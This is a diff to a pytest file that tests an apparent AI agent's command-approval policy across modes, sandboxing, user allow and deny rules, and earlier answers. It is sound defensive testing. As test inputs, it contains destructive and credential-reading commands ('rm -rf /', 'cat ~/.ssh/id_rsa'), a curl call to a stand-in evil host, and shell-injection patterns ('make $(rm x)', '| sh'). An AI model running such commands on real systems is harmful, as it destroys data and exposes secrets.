@@ -1,13 +1,28 @@
-"""The one policy, over every combination of action, place, mode, edit policy and earlier answer."""
+"""The one policy, over every combination of action, place, mode, sandbox, edit policy and earlier answer."""
 
 import itertools
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from tools.approval.actions import CallMcpTool, LeavePlan, ReadPath, RunCommand, WritePath, describe
+from tools.approval.actions import (
+    CallMcpTool,
+    CallOwnTool,
+    ConnectHost,
+    LeavePlan,
+    ProcessInput,
+    ReachHost,
+    ReadPath,
+    RunCommand,
+    SearchWeb,
+    UseBrowser,
+    WritePath,
+    describe,
+)
 from tools.approval.grants import Grants
-from tools.approval.policy import Rules, decide
+from tools.approval.policy import Confines, Rules, decide
+from tools.approval.rules.parsing import parse_rule
 from tools.approval.scopes import reaches
 
 ROOT = Path("/srv/project")
@@ -19,6 +34,7 @@ RULES = Rules(
     closed=frozenset({DATABASE}),
     allowed_commands=frozenset({"rm -rf build"}),
 )
+CONTAINED = replace(RULES, confines=Confines(active=True))
 
 PLACES = {
     "inside": ROOT / "src/app.py",
@@ -31,14 +47,6 @@ PLACES = {
     "closed": DATABASE,
 }
 INSIDE = {"inside", "the root itself", "inside the second root"}
-COMMANDS = {
-    "looking": "git status",
-    "ordinary": "make test",
-    "dangerous": "rm file",
-    "dangerous though it only looks": "cat .env",
-    "allowed by a rule": "  rm -rf build\n",
-    "forbidden": "rm -rf /",
-}
 MODES = ("plan", "default", "accept_edits", "dont_ask")
 EDITS = ("mode", "ask")
 ANSWERS = ("none", "yes", "no")
@@ -102,27 +110,214 @@ def test_what_runs_later_may_be_read_but_not_changed_unasked(name):
     assert changed.reason
 
 
-def _expected_for_command(kind, mode, answer):
-    if kind == "forbidden" or answer == "no":
-        return "deny"
-    if mode == "plan":
-        return "allow" if kind == "looking" else "deny"
-    if kind in {"looking", "ordinary", "allowed by a rule"} or mode == "dont_ask" or answer == "yes":
-        return "allow"
-    return "ask"
+SAFE, ORDINARY, DANGEROUS, NEEDY, FORBIDDEN = "git status", "make test", "rm file", "sudo make install", "rm -rf /"
+
+
+def _run(command, **more):
+    return RunCommand(command, ROOT, **more)
+
+
+# What becomes of an action in each mode: plan, default, accept_edits, dont_ask. «free» is a yes to running it without
+# the sandbox.
+WITHOUT_A_SANDBOX = {
+    "a safe command": (_run(SAFE), "allow allow allow allow"),
+    "an ordinary one": (_run(ORDINARY), "deny ask ask allow"),
+    "a dangerous one": (_run(DANGEROUS), "deny ask ask allow"),
+    "one that needs what a sandbox does not give": (_run(NEEDY), "deny ask ask free"),
+    "one that a rule allows": (_run("  rm -rf build\n"), "deny allow allow allow"),
+    "a forbidden one": (_run(FORBIDDEN), "deny deny deny deny"),
+    "a safe one again, free": (_run(SAFE, outside=True), "deny ask ask deny"),
+    "an ordinary one again, free": (_run(ORDINARY, outside=True), "deny ask ask deny"),
+    "a needy one again, free": (_run(NEEDY, outside=True), "deny ask ask free"),
+    "a forbidden one again, free": (_run(FORBIDDEN, outside=True), "deny deny deny deny"),
+    "a safe one in the editor's terminal": (_run(SAFE, uncontained="x"), "allow allow allow allow"),
+    "an ordinary one there": (_run(ORDINARY, uncontained="x"), "deny ask ask allow"),
+    "an answer to a program": (ProcessInput("make", "y\n", ROOT), "deny allow allow allow"),
+    "a line for a program": (ProcessInput("sh", "rm -r x\n", ROOT), "deny ask ask allow"),
+    "ruin for a program": (ProcessInput("sh", "rm -rf /\n", ROOT), "deny deny deny deny"),
+    "a tool of a server": (MCP, "deny ask ask allow"),
+    "a tool of the user's own": (CallOwnTool("deploy"), "ask allow allow allow"),
+    "a click": (UseBrowser("example.com", "click @e1"), "deny allow allow allow"),
+    "a public page": (ReachHost("https://example.com/", "example.com"), "ask ask ask allow"),
+    "a private page": (ReachHost("http://router/", "router", "a private address"), "ask ask ask deny"),
+    "a command's connection": (ConnectHost("example.com", 443), "deny ask ask allow"),
+    "a command's connection inside": (ConnectHost("router", 80, "a private address"), "deny ask ask deny"),
+    "a search": (SearchWeb("brave", "x"), "ask ask ask allow"),
+    "leaving plan mode": (LeavePlan("1."), "ask ask ask ask"),
+}
+IN_A_SANDBOX = {
+    **WITHOUT_A_SANDBOX,
+    "an ordinary one": (_run(ORDINARY), "deny allow allow allow"),
+}
+EVERYTHING_ASKED = {
+    **WITHOUT_A_SANDBOX,
+    "a tool of the user's own": (CallOwnTool("deploy"), "ask ask ask allow"),
+    "a click": (UseBrowser("example.com", "click @e1"), "deny ask ask allow"),
+}
+TABLES = {
+    "nothing contains commands": (RULES, WITHOUT_A_SANDBOX),
+    "a sandbox contains them": (CONTAINED, IN_A_SANDBOX),
+    "everything is asked about": (replace(CONTAINED, asks_all=True), EVERYTHING_ASKED),
+}
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize(("table", "kind"), [(table, kind) for table, (_, rows) in TABLES.items() for kind in rows])
+def test_what_may_happen_in_each_mode(table, kind, mode):
+    rules, rows = TABLES[table]
+    action, verdicts = rows[kind]
+    expected = verdicts.split()[MODES.index(mode)]
+
+    decision = decide(action, mode, rules, Grants())
+
+    told = "free" if decision.verdict == "allow" and decision.outside else decision.verdict
+    assert told == expected
+    if decision.verdict == "deny":
+        assert decision.reason
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("kind", WITHOUT_A_SANDBOX)
+def test_a_rule_of_the_users_that_denies_wins_in_every_mode_over_every_answer(kind, mode):
+    action, _ = WITHOUT_A_SANDBOX[kind]
+    if isinstance(action, LeavePlan):
+        pytest.skip("no rule is about it")
+    everything = ("run: *", "mcp: *", "tool: *", "host: *", "search: *")
+    rules = replace(CONTAINED, deny=tuple(map(parse_rule, everything)), allow=tuple(map(parse_rule, everything)))
+    grants = Grants()
+    for grant in reaches(action, RULES.roots, is_risky=False):
+        grants.allow(grant)
+
+    decision = decide(action, mode, rules, grants)
+
+    assert decision.verdict == "deny"
+    assert decision.cause in {"rule", "floor"}
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("kind", ["read", "create", "edit", "delete"])
+def test_so_does_one_about_files(kind, mode):
+    deny = parse_rule({"read" if kind == "read" else "write": "src/**"})
+    rules = replace(RULES, deny=(deny,), allow=(parse_rule("read: src/**"), parse_rule("write: src/**")))
+    action = PATH_ACTIONS[kind](ROOT / "src/app.py")
+
+    assert decide(action, mode, rules, _answered(action, "yes")).cause == "rule"
+    assert decide(PATH_ACTIONS[kind](ROOT / "lib/app.py"), "accept_edits", rules, Grants()).verdict == "allow"
+
+
+@pytest.mark.parametrize(("kind", "mode", "answer"), list(itertools.product(WITHOUT_A_SANDBOX, MODES, ["yes", "no"])))
+def test_an_earlier_answer_counts_where_the_mode_asks(kind, mode, answer):
+    action, verdicts = WITHOUT_A_SANDBOX[kind]
+    unanswered = verdicts.split()[MODES.index(mode)]
+    if isinstance(action, LeavePlan):
+        pytest.skip("it is asked each time")
+    expected = "deny" if answer == "no" or unanswered == "deny" else "allow"
+    if answer == "yes" and mode == "dont_ask" and unanswered == "deny" and FORBIDDEN not in describe(action):
+        expected = "allow"
+
+    assert decide(action, mode, RULES, _answered(action, answer)).verdict == expected
+
+
+def test_a_yes_to_running_free_is_none_to_running_contained_and_the_other_way_round():
+    dangerous, free = _run(DANGEROUS), _run(DANGEROUS, outside=True)
+    assert decide(free, "default", CONTAINED, _answered(dangerous, "yes")).verdict == "ask"
+    assert decide(dangerous, "default", CONTAINED, _answered(free, "yes")).verdict == "ask"
+
+
+def test_what_may_always_run_free_is_not_tried_in_the_sandbox_first():
+    grants = _answered(_run(ORDINARY, outside=True), "yes")
+    assert decide(_run(ORDINARY), "default", CONTAINED, grants).outside
+    assert not decide(_run(SAFE), "default", CONTAINED, grants).outside
+
+
+def test_why_a_command_is_not_contained_is_said():
+    asked = decide(_run(ORDINARY), "default", RULES, Grants())
+    assert (asked.reason, asked.cause, asked.is_risky) == (
+        "is not contained: no sandbox is set up",
+        "containment",
+        False,
+    )
+    elsewhere = decide(_run(ORDINARY, uncontained="the editor runs it"), "default", CONTAINED, Grants())
+    assert elsewhere.reason == "is not contained: the editor runs it"
+
+
+def test_running_again_says_what_was_refused_and_is_risky():
+    asked = decide(_run(ORDINARY, outside=True, refused="writing to /etc/x"), "default", CONTAINED, Grants())
+    assert "was kept from writing to /etc/x by the sandbox" in asked.reason
+    assert asked.is_risky
 
 
 @pytest.mark.parametrize(
-    ("kind", "mode", "edits", "answer"), list(itertools.product(COMMANDS, MODES, EDITS, ANSWERS))
+    ("rule", "command", "verdict"),
+    [
+        ("run: rm *", "rm file", "allow"),
+        ("run: rm *", "rm file && make test", "ask"),
+        ("run: rm *", "rm file > log", "ask"),
+        ("run: rm *", "sudo rm file", "ask"),
+        ("run: *", "rm -rf /", "deny"),
+        ("run: cat *", "cat ~/.ssh/id_rsa", "ask"),
+        ("run: cat ~/.ssh/id_rsa", "cat ~/.ssh/id_rsa", "allow"),
+        ("run: make*", "make test", "allow"),
+        ("run: make*", "make test | tail -3", "allow"),
+        ("run: make*", "make test | sh", "ask"),
+        ("run: make*", "make $(rm x)", "ask"),
+    ],
 )
-def test_what_may_happen_to_a_command(kind, mode, edits, answer):
-    action = RunCommand(COMMANDS[kind], ROOT)
+def test_a_rule_that_allows_covers_what_it_names(rule, command, verdict):
+    rules = replace(RULES, allow=(parse_rule(rule),))
+    assert decide(_run(command), "default", rules, Grants()).verdict == verdict
 
-    decision = decide(action, mode, RULES, _answered(action, answer), edits)
 
-    assert decision.verdict == _expected_for_command(kind, mode, answer)
-    assert bool(decision.reason) == (decision.verdict != "allow")
-    assert decision.is_risky == (decision.verdict == "ask")
+def test_no_rule_that_allows_counts_in_plan_mode_or_for_running_free():
+    rules = replace(CONTAINED, allow=(parse_rule("run: *"), parse_rule("write: *")))
+    assert decide(_run(ORDINARY), "plan", rules, Grants()).verdict == "deny"
+    assert decide(_write(ROOT / "a"), "plan", rules, Grants()).verdict == "deny"
+    assert decide(_run(ORDINARY, outside=True), "default", rules, Grants()).verdict == "ask"
+
+
+@pytest.mark.parametrize(
+    ("command", "cause"),
+    [
+        ("git push", "rule"),
+        ("cd src && sudo git push origin", "rule"),
+        ("bash -c 'git push'", "rule"),
+        ("git -C . push", "rule"),
+        ("x=push; git $x", "rule"),
+        ("git pull", ""),
+        ("echo git push", ""),
+        ("cat secrets/key", "rule"),
+        ("cp a secrets/key", "rule"),
+        ("wc -l < secrets/key", "rule"),
+        ("curl https://evil.example/x", "rule"),
+        ("curl https://api.evil.example:8443/x", "rule"),
+        ("touch generated/x", "rule"),
+        ("cat generated/x", ""),
+    ],
+)
+def test_a_rule_that_denies_hits_every_program_in_a_command(command, cause):
+    denying = ("run: git push*", "read: secrets/**", "host: evil.example", "write: generated/**")
+    rules = replace(CONTAINED, deny=tuple(map(parse_rule, denying)))
+    found = decide(_run(command), "dont_ask", rules, Grants())
+    assert found.cause == cause
+    assert found.verdict == ("deny" if cause else "allow")
+
+
+def test_what_may_be_what_a_rule_denies_is_asked_about_and_refused_where_nobody_is():
+    rules = replace(CONTAINED, deny=(parse_rule("run: git push*"),), allow=(parse_rule("run: *"),))
+    hidden = _run('eval "$(cat script)"')
+    asked = decide(hidden, "default", rules, Grants())
+    assert (asked.verdict, asked.cause) == ("ask", "rule-unclear")
+    assert asked.is_risky
+    assert decide(hidden, "dont_ask", rules, Grants()).verdict == "deny"
+    assert decide(hidden, "default", rules, _answered(hidden, "yes")).verdict == "allow"
+
+
+def test_what_comes_back_by_itself_is_told_apart_where_a_sandbox_contains_the_rest():
+    tidy = _run("rm -rf node_modules")
+    assert decide(tidy, "default", CONTAINED, Grants()).undoable
+    assert not decide(tidy, "default", RULES, Grants()).undoable
+    assert not decide(_run("rm -rf node_modules src"), "default", CONTAINED, Grants()).undoable
+    assert not decide(_run("rm -rf node_modules; sudo ls"), "default", CONTAINED, Grants()).undoable
 
 
 @pytest.mark.parametrize(("mode", "edits", "answer"), list(itertools.product(MODES, EDITS, ANSWERS)))
@@ -171,6 +366,10 @@ def test_in_plan_mode_only_commands_run_that_surely_change_nothing(command, verd
         (RunCommand("ls", ROOT), "run: ls"),
         (MCP, "call write of the MCP server files"),
         (LeavePlan("x"), "leave plan mode"),
+        (RunCommand("ls", ROOT, outside=True), "run without the sandbox: ls"),
+        (CallOwnTool("deploy"), "call the user's own tool deploy"),
+        (UseBrowser("example.com", "click @e1"), "click @e1 on the page of example.com"),
+        (ConnectHost("example.com", 443), "connect to example.com:443"),
     ],
 )
 def test_every_action_has_a_phrase(action, phrase):
